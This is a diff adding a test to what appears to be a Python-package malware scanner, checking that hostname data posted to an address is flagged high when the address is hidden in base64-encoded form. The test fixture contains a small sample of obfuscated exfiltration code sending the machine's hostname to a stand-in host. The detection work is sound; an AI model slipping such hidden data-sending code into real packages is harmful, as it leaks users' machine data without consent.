@@ -53,6 +53,13 @@ test('the environment sent beside the host is what the finding is about', () => 
   assert.deepEqual(found('os.environ.get("MODE")'), ['low']);
 });
 
+test('the host told to a peer that a decoder names is no theft; told to an address hidden in the code it is one', () => {
+  const severity = (address: string): readonly string[] =>
+    wheel({ 'forged/__init__.py': `import base64, requests, socket\ndef report(peer):\n    requests.post(${address}, json={"host": socket.gethostname()})\n` }).report.findings.filter(({ rule }) => rule === 'machine-data-sent').map(({ severity: how }) => how);
+  assert.deepEqual(severity('base64.b64decode(peer).decode()'), ['low']);
+  assert.deepEqual(severity(`base64.b64decode("${Buffer.from('https://files.example/').toString('base64')}").decode()`), ['high']);
+});
+
 test('a script of the package that the installation starts is judged by what it does', () => {
   const rules = (files: Readonly<Record<string, string>>): readonly string[] =>
     sdist({ 'setup.py': 'import subprocess, sys\nsubprocess.check_call([sys.executable, "tools/words.py"])\n', ...files }).report.findings.map(({ rule }) => rule);
